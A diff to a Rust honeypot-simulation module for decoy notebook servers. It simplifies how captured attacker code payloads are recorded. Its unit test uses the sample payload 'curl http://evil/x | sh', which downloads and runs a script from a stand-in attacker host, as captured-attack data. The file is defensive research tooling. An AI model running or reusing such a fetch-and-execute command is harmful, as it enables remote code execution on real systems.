@@ -1,36 +1,15 @@
 //! Decoy notebook servers.
 
-use ja_netsim::addr::HostAddr;
 use ja_netsim::rng::SimRng;
 use ja_netsim::time::SimTime;
 
-/// What an attacker did to a decoy.
-#[derive(Clone, Debug, PartialEq, serde::Serialize, serde::Deserialize)]
-#[serde(tag = "kind")]
-pub enum Interaction {
-    /// TCP probe only.
-    Probe,
-    /// Login / token attempt.
-    Login {
-        /// Claimed username.
-        username: String,
-    },
-    /// Code execution attempt (the signature goldmine).
-    ExecuteCell {
-        /// The submitted code.
-        code: String,
-    },
-}
-
-/// A captured interaction.
+/// A code payload an attacker executed on a decoy.
 #[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
 pub struct Capture {
     /// When.
     pub time: SimTime,
-    /// Attacker source.
-    pub src: HostAddr,
-    /// What.
-    pub interaction: Interaction,
+    /// The submitted code (the signature goldmine).
+    pub code: String,
 }
 
 /// A decoy instance.
@@ -38,8 +17,6 @@ pub struct Capture {
 pub struct Decoy {
     /// Fleet-unique id.
     pub id: u32,
-    /// Externally visible address.
-    pub addr: HostAddr,
     /// Realism in [0, 1]: how well the decoy resists fingerprinting.
     /// (The paper cites a taxonomy of honeypot-fingerprinting
     /// techniques; realism is the defender-side summary of it.)
@@ -53,8 +30,6 @@ impl Decoy {
     pub fn new(id: u32, realism: f64) -> Self {
         Decoy {
             id,
-            // Decoys sit at the network edge: externally routable.
-            addr: HostAddr::decoy(id),
             realism: realism.clamp(0.0, 1.0),
             captures: Vec::new(),
         }
@@ -69,24 +44,12 @@ impl Decoy {
         rng.chance(sophistication * (1.0 - self.realism))
     }
 
-    /// Record an interaction.
-    pub fn capture(&mut self, time: SimTime, src: HostAddr, interaction: Interaction) {
+    /// Record a code payload executed at `time`.
+    pub fn capture(&mut self, time: SimTime, code: &str) {
         self.captures.push(Capture {
             time,
-            src,
-            interaction,
+            code: code.to_string(),
         });
-    }
-
-    /// All captured code payloads.
-    pub fn captured_code(&self) -> Vec<&str> {
-        self.captures
-            .iter()
-            .filter_map(|c| match &c.interaction {
-                Interaction::ExecuteCell { code } => Some(code.as_str()),
-                _ => None,
-            })
-            .collect()
     }
 }
 
@@ -97,17 +60,11 @@ mod tests {
     #[test]
     fn capture_accumulates() {
         let mut d = Decoy::new(1, 0.8);
-        let src = HostAddr::external(5);
-        d.capture(SimTime::ZERO, src, Interaction::Probe);
-        d.capture(
-            SimTime::from_secs(1),
-            src,
-            Interaction::ExecuteCell {
-                code: "curl http://evil/x | sh".into(),
-            },
-        );
+        d.capture(SimTime::ZERO, "import os");
+        d.capture(SimTime::from_secs(1), "curl http://evil/x | sh");
         assert_eq!(d.captures.len(), 2);
-        assert_eq!(d.captured_code(), vec!["curl http://evil/x | sh"]);
+        assert_eq!(d.captures[1].time, SimTime::from_secs(1));
+        assert_eq!(d.captures[1].code, "curl http://evil/x | sh");
     }
 
     #[test]
